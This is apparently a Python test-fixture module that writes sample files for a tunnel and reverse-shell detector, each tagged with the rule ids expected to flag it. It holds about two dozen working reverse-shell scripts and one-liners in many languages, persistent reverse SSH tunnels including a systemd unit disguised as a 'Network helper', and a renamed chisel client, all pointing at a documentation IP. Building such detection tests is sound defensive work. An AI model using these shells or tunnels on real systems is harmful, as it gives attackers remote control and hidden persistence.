"""Tunnel and reverse-shell files as they are found in the wild, written for the tests.

Each sample is a short, realistic file: a script, a unit, a config. Hosts are .example /
.test names or 198.51.100.0/24; tokens and secrets are made up. `rules` is the set of rule
ids any one of which must report it at medium or above; a benign sample has none and must
stay below medium (`at_most` says how far below).
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class TunnelFile:
    name: str
    text: str
    rules: frozenset[str] = frozenset()  # any of these reports it at medium or above
    at_most: str = "low"  # for a benign sample: the most it may be graded


def hit(name: str, text: str, *rules: str) -> TunnelFile:
    return TunnelFile(name, text, frozenset(rules))


def benign(name: str, text: str, at_most: str = "low") -> TunnelFile:
    return TunnelFile(name, text, at_most=at_most)


H = "198.51.100.5"
REVERSE_SHELLS = [
    hit(
        "rs/py_subprocess.py",
        f"""import os
import socket
import subprocess

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("{H}", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
""",
        "yara.revshell_python",
    ),
    hit(
        "rs/py_pty.py",
        f"""#!/usr/bin/env python3
import os, pty, socket

def main():
    s = socket.create_connection(("{H}", 443))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/bash")

main()
""",
        "yara.revshell_python",
    ),
    hit(
        "rs/py_oneliner.sh",
        "python3 -c 'import socket,subprocess,os;"
        "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
        f's.connect(("{H}",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
        'p=subprocess.call(["/bin/sh","-i"]);\'\n',
        "tunnel.reverse_shell",
    ),
    hit(
        "rs/rev.pl",
        f"""#!/usr/bin/perl
use strict;
use Socket;
my $i = "{H}";
my $p = 4444;
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
if (connect(S, sockaddr_in($p, inet_aton($i)))) {{
    open(STDIN, ">&S");
    open(STDOUT, ">&S");
    open(STDERR, ">&S");
    exec("/bin/sh -i");
}}
""",
        "yara.revshell_perl",
    ),
    hit(
        "rs/perl_io.sh",
        f'perl -MIO -e \'$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"{H}:4444");'
        "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'\n",
        "tunnel.reverse_shell",
    ),
    hit(
        "rs/shell.php",
        f"""<?php
set_time_limit(0);
$ip = '{H}';
$port = 4444;
$sock = fsockopen($ip, $port, $errno, $errstr, 30);
$shell = 'uname -a; w; id; /bin/sh -i';
$descriptorspec = array(0 => $sock, 1 => $sock, 2 => $sock);
$process = proc_open($shell, $descriptorspec, $pipes);
?>
""",
        "yara.revshell_php",
    ),
    hit(
        "rs/php_oneliner.sh",
        f'php -r \'$sock=fsockopen("{H}",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'\n',
        "tunnel.reverse_shell",
    ),
    hit(
        "rs/rev.rb",
        f"""require 'socket'
c = TCPSocket.new("{H}", 4444)
while (cmd = c.gets)
  IO.popen(cmd, "r") {{ |io| c.print io.read }}
end
""",
        "yara.revshell_ruby",
    ),
    hit(
        "rs/ruby_oneliner.sh",
        f'ruby -rsocket -e\'f=TCPSocket.open("{H}",4444).to_i;'
        'exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'\n',
        "tunnel.reverse_shell",
    ),
    hit(
        "rs/rev.lua",
        f"""local socket = require("socket")
local tcp = socket.tcp()
tcp:connect("{H}", 4444)
while true do
  local cmd, status = tcp:receive()
  local f = io.popen(cmd, "r")
  tcp:send(f:read("*a"))
  f:close()
end
""",
        "yara.revshell_lua",
    ),
    hit(
        "rs/lua_oneliner.sh",
        f"lua -e \"require('socket');require('os');t=socket.tcp();t:connect('{H}','4444');"
        "os.execute('/bin/sh -i <&3 >&3 2>&3');\"\n",
        "tunnel.reverse_shell",
    ),
    hit(
        "rs/awk.sh",
        f'awk \'BEGIN {{s = "/inet/tcp/0/{H}/4444"; while(42) {{ do{{ printf "shell>" |& s; '
        "s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } "
        'while(c != "exit") close(s); }}\' /dev/null\n',
        "tunnel.reverse_shell",
        "yara.revshell_awk",
    ),
    hit(
        "rs/openssl.sh",
        "#!/bin/sh\nmkfifo /tmp/.s; /bin/sh -i < /tmp/.s 2>&1 | "
        f"openssl s_client -quiet -connect {H}:443 > /tmp/.s; rm /tmp/.s\n",
        "tunnel.reverse_shell",
    ),
    hit(
        "rs/openssl_pipes.sh",
        f"openssl s_client -quiet -connect {H}:443 | /bin/bash 2>&1 | "
        f"openssl s_client -quiet -connect {H}:8443\n",
        "tunnel.reverse_shell",
    ),
    hit(
        "rs/telnet.sh",
        f"#!/bin/bash\ntelnet {H} 4444 | /bin/bash | telnet {H} 4445\n",
        "tunnel.reverse_shell",
    ),
    hit(
        "rs/telnet_fifo.sh",
        f"rm -f /tmp/p; mknod /tmp/p p && telnet {H} 4444 0</tmp/p | /bin/sh 1>/tmp/p\n",
        "tunnel.reverse_shell",
    ),
    hit(
        "rs/mkfifo_nc.sh",
        f"#!/bin/sh\nrm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {H} 4444 >/tmp/f\n",
        "tunnel.reverse_shell",
    ),
    hit(
        "rs/nc_c.sh",
        f"#!/bin/sh\nwhile :; do nc -c sh {H} 4444; sleep 30; done\n",
        "tunnel.reverse_shell",
    ),
    hit("rs/nc_e.sh", f"#!/bin/sh\nncat {H} 4444 -e /bin/bash\n", "tunnel.reverse_shell"),
    hit(
        "rs/bash_l.sh",
        f"#!/bin/bash\nH={H}\nbash -l > /dev/tcp/$H/4444 0<&1 2>&1\n",
        "tunnel.reverse_shell",
    ),
    hit(
        "rs/sh_udp.sh",
        f"#!/bin/sh\nsh -i >& /dev/udp/{H}/4444 0>&1\n",
        "tunnel.reverse_shell",
    ),
    hit(
        "rs/bash_exec.sh",
        f"#!/bin/bash\nexec 5<>/dev/tcp/{H}/4444\n"
        "cat <&5 | while read line; do $line 2>&5 >&5; done\n",
        "tunnel.reverse_shell",
    ),
    hit(
        "rs/rev.js",
        f"""(function () {{
  var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);
  var client = new net.Socket();
  client.connect(4444, "{H}", function () {{
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  }});
}})();
""",
        "yara.revshell_node",
    ),
]

SSH_TUNNELS = [
    hit(
        "ssh/tunnel.sh",
        "#!/bin/bash\n# keep the way back in open\nwhile true; do\n"
        "  ssh -N -o ServerAliveInterval=30 -o ExitOnForwardFailure=yes \\\n"
        f"      -R 2222:localhost:22 tun@{H}\n  sleep 10\ndone\n",
        "tunnel.ssh_reverse",
    ),
    hit(
        "ssh/autossh.sh",
        "#!/bin/sh\nexport AUTOSSH_GATETIME=0\n"
        f"autossh -M 0 -f -N -oRemoteForward=8022:127.0.0.1:22 -J bastion.example tun@{H}\n",
        "tunnel.ssh_reverse",
    ),
    hit(
        "ssh/backdoor.service",
        "[Unit]\nDescription=Network helper\nAfter=network-online.target\n\n[Service]\n"
        "Environment=AUTOSSH_GATETIME=0\n"
        'ExecStart=/usr/bin/autossh -M 0 -N -o "RemoteForward 2222 localhost:22" '
        f"-o StrictHostKeyChecking=no -i /root/.ssh/id_ed25519 tun@{H}\n"
        "Restart=always\n\n[Install]\nWantedBy=multi-user.target\n",
        "tunnel.ssh_reverse",
    ),
    hit(
        "ssh/proxycommand.sh",
        "#!/bin/sh\nssh -o 'ProxyCommand=nc -X 5 -x 198.51.100.9:1080 %h %p' u@gpu7.example\n",
        "tunnel.ssh_proxy_command",
    ),
]

TOOL_FILES = [
    hit(
        "tools/ngrok_start.sh",
        "#!/bin/sh\n./.cache/ngrok start --config /home/u/.config/ngrok/ngrok.yml --all "
        "--log=stdout > /dev/null &\n",
        "tunnel.ngrok",
    ),
    hit(
        "tools/renamed_chisel.sh",
        "#!/bin/sh\ncp ./chisel /dev/shm/.kswapd\n"
        f"nohup /dev/shm/.kswapd client --keepalive 25s {H}:443 R:socks >/dev/null 2>&1 &\n",
        "tunnel.chisel",
    ),
    hit(
        "tools/frpc_cmd.sh",
        f"#!/bin/sh\n./w tcp --server_addr {H}:7000 --local_port 22 --remote_port 6000 &\n",
        "tunnel.frp",
    ),
    hit(
        "tools/bore.sh",
        "#!/bin/sh\nbore local 8888 --to bore.example\n",
        "tunnel.bore",
    ),
    hit(
        "tools/cf.service",
        "[Service]\nExecStart=/opt/cf/cloudflared --no-autoupdate tunnel run --token "
        "eyJhIjoiMDAwMDAwMDAwMDAwMDAwMCIsInQiOiJ4In0=\nRestart=on-failure\n",
        "tunnel.cloudflared",
    ),
    hit(
        "tools/gost_cmd.sh",
        "#!/bin/sh\n./g -L rtcp://:8022/127.0.0.1:22 -F relay+wss://tun.example:443 &\n",
        "tunnel.gost",
    ),
]

CONFIGS = [
    hit(
        "cfg/ngrok.yml",
        'version: "2"\ntunnels:\n  notebook:\n    proto: http\n    addr: 8888\n'
        "  shell:\n    proto: tcp\n    addr: 22\n",
        "yara.tunnel_ngrok_config",
    ),
    hit(
        "cfg/ngrok_v3.yml",
        "version: 3\nagent:\n  authtoken: 2abcdefghijklmnopqrstuvwxyz_0123456789\nendpoints:\n"
        "  - name: nb\n    url: https://nb.example\n    upstream:\n      url: 8888\n",
        "yara.tunnel_ngrok_config",
    ),
    hit(
        "cfg/cloudflared/config.yml",
        "tunnel: 6ff42ae2-765d-4adf-8112-31c55c1551ef\n"
        "credentials-file: /root/.cloudflared/6ff42ae2-765d-4adf-8112-31c55c1551ef.json\n"
        "ingress:\n  - hostname: nb.example\n    service: http://localhost:8888\n"
        "  - service: http_status:404\n",
        "yara.tunnel_cloudflared_config",
    ),
    hit(
        "cfg/cloudflared/named.yaml",
        "tunnel: lab-notebook\ncredentials_file: /home/u/.cloudflared/lab.json\n"
        "url: http://localhost:8888\nno-autoupdate: true\n",
        "yara.tunnel_cloudflared_config",
    ),
    hit(
        "cfg/cloudflared/ingress_only.yml",
        "ingress:\n  - hostname: ssh.example\n    service: ssh://localhost:22\n"
        "    originRequest:\n      noTLSVerify: true\n  - service: http_status:404\n",
        "yara.tunnel_cloudflared_config",
    ),
    hit(
        "cfg/cloudflared/creds.json",
        '{"AccountTag":"0123456789abcdef0123456789abcdef",'
        '"TunnelSecret":"bm90IGEgcmVhbCBzZWNyZXQgYXQgYWxsIDAwMDA=",'
        '"TunnelID":"6ff42ae2-765d-4adf-8112-31c55c1551ef"}\n',
        "yara.tunnel_cloudflared_config",
    ),
    hit(
        "cfg/gost.json",
        '{\n  "Debug": false,\n  "Retries": 0,\n'
        '  "ServeNodes": ["socks5://:1080", "rtcp://:2222/127.0.0.1:22"],\n'
        f'  "ChainNodes": ["relay+tls://{H}:443"]\n}}\n',
        "yara.tunnel_gost_config",
    ),
    hit(
        "cfg/gost-auto.json",  # v2 nodes with no scheme: gost takes them as auto
        f'{{"ServeNodes": [":1080"], "ChainNodes": ["{H}:8443"]}}\n',
        "yara.tunnel_gost_config",
    ),
    hit(
        "cfg/gost.yaml",
        'services:\n- name: service-0\n  addr: ":2222"\n  handler:\n    type: rtcp\n'
        "  listener:\n    type: rtcp\n    chain: chain-0\n  forwarder:\n    nodes:\n"
        "    - name: target-0\n      addr: 127.0.0.1:22\nchains:\n- name: chain-0\n  hops:\n"
        "  - name: hop-0\n    nodes:\n    - name: node-0\n"
        f"      addr: {H}:8443\n      connector:\n        type: relay\n"
        "      dialer:\n        type: tls\n",
        "yara.tunnel_gost_config",
    ),
    hit(
        "cfg/gost3.json",
        '{"services": [{"name": "socks", "addr": ":1080", "handler": {"type": "socks5"},'
        ' "listener": {"type": "tcp"}}]}\n',
        "yara.tunnel_gost_config",
    ),
    hit(
        "cfg/frps.ini",
        "[common]\nbind_port = 7000\ntoken = not-a-real-token\ndashboard_port = 7500\n",
        "yara.tunnel_frps_config",
    ),
    hit(
        "cfg/frps.toml",
        'bindPort = 7000\nauth.token = "not-a-real-token"\nvhostHTTPPort = 8080\n',
        "yara.tunnel_frps_config",
    ),
    hit(
        "cfg/frpc.ini",
        f"[common]\nserver_addr = {H}\ntoken = not-a-real-token\n\n[ssh]\ntype = tcp\n"
        "local_ip = 127.0.0.1\nlocal_port = 22\nremote_port = 6000\n",
        "yara.tunnel_frpc_config",
    ),
    hit(
        "cfg/frpc.toml",
        f'serverAddr = "{H}"\nserverPort = 7000\n\n[[proxies]]\nname = "nb"\ntype = "tcp"\n'
        "localPort = 8888\nremotePort = 6001\n",
        "yara.tunnel_frpc_config",
    ),
    hit(
        "cfg/frpc.yaml",
        f'serverAddr: "{H}"\nproxies:\n  - name: ssh\n    type: tcp\n    localPort: 22\n'
        "    remotePort: 6000\n",
        "yara.tunnel_frpc_config",
    ),
]

BENIGN = [
    benign(
        "ok/notebook.sh",
        "#!/bin/sh\n# reach the notebook on the GPU box from the laptop\n"
        "ssh -N -L 8888:localhost:8888 -J bastion.example u@gpu7.example\n",
    ),
    benign(
        "ok/portcheck.sh",
        "#!/bin/bash\n# usage: portcheck HOST PORT\n#\n"
        "# Probes a port with bash's /dev/tcp/HOST/PORT: a reverse shell would redirect a\n"
        "# shell into /dev/tcp, this only opens it and closes it again.\n"
        'if timeout 1 bash -c "</dev/tcp/$1/$2"; then echo open; else echo closed; fi\n',
    ),
    benign(
        "ok/README.md",
        "# Lab notebooks\n\nDo not expose notebooks with ngrok or cloudflared: ngrok publishes\n"
        "a local port such as 8888 on a public URL, and the evaluation boxes deny egress.\n"
        "Use the bastion instead and forward the port over ssh (see notebook.sh).\n",
        at_most="info",
    ),
    benign(
        "ok/client.py",
        "import socket\n\n\ndef fetch(host: str, port: int) -> bytes:\n"
        "    with socket.create_connection((host, port), timeout=5) as s:\n"
        '        s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")\n        return s.recv(4096)\n',
        at_most="info",
    ),
]

ALL = REVERSE_SHELLS + SSH_TUNNELS + TOOL_FILES + CONFIGS + BENIGN


def write(root: Path, samples: list[TunnelFile] = ALL) -> dict[Path, TunnelFile]:
    """Write the samples under root; returns path -> sample."""
    out = {}
    for s in samples:
        path = root / s.name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(s.text)
        out[path] = s
    return out
